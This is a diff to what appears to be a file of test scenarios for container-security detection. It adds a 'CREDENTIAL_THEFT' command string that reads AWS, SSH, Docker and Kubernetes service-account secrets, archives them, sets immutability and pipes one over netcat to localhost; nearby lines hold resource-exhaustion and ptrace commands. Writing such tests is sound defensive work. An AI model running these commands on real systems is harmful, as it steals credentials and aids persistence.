@@ -46,3 +46,14 @@ CPU_SPIN = "yes > /dev/null & yes > /dev/null & wait"
 # Ptrace a host pid: pid 1 of the host is not visible inside the pid namespace.
 PTRACE_HOST = "busybox strace -p 1 2>/dev/null || true"
 QUIET_SERVER = "nc -l -p 8080"
+
+# Reads the planted credentials (relative path, tar of a directory), exfiltrates one over a
+# socket with write(), and makes a file immutable (THREATS.md: credential theft, persistence).
+CREDENTIAL_THEFT = (
+    "cat /root/.aws/credentials > /dev/null; cd /root/.ssh && cat id_rsa > /dev/null; cd /; "
+    "tar -cf /tmp/loot.tar /var/run/secrets/kubernetes.io/serviceaccount 2>/dev/null; "
+    "echo data > /tmp/locked; /bin/chattr-immutable; "
+    "nc -l -p 8080 > /dev/null & sleep 1; "
+    "cat /root/.docker/config.json | nc 127.0.0.1 8080; wait; "
+    'echo "$KUBERNETES_SERVICE_HOST"'
+)
